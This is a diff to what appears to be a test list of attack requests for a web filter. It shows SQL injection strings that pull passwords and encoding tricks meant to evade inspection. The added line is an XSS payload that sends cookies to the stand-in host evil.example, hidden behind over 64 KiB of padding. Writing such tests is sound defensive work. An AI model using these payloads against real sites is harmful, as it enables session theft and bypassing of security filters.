@@ -151,6 +151,9 @@ ATTACKS = [
                  '--b\r\nContent-Disposition: form-data; name="t"\r\n\r\nhi\r\n--b--\r\n--a\r\nContent-Disposition: form-data; name="q"\r\n\r\n1\' union select password from users--\r\n--a--\r\n')),  # parts in the epilogue
     ("sqli", raw("POST", "/api/search", [("Content-Type", "application/x-www-form-urlencoded; charset=utf-16")], "q=1'+union+select+password+from+users--")),  # ASCII declared UTF-16
     ("protocol", raw("POST", "/api/search", [("Content-Type", "application/json"), ("Content-Encoding", "br")], b"\x1b\x2f\x00\xf8noise")),  # a coding the engine cannot read
+    # the same, large (> 64 KiB: one unit, read by rules.targets._large_body) with a zero byte put in to look the part
+    ("xss", raw("POST", "/api/comments", [("Content-Type", "application/x-www-form-urlencoded; charset=utf-16")],
+                b"comment=<script>document.location='//evil.example/?c='+document.cookie</script>&pad=\x00" + b"a" * 70_000)),
     ("sqli", raw("POST", "/api/search", [("Content-Type", "text/plain")], json.dumps({"q": "1' union select password from users--"}))),  # JSON under text/plain
     ("sqli", raw("POST", "/api/search", [("Content-Type", "application/json"), ("Content-Encoding", "deflate")], gzip.compress(json.dumps({"q": "1' union select password from users--"}).encode()))),  # gzip labelled deflate
     # a multipart part read as its own headers say: quoted-printable every byte, its charset, the form's _charset_
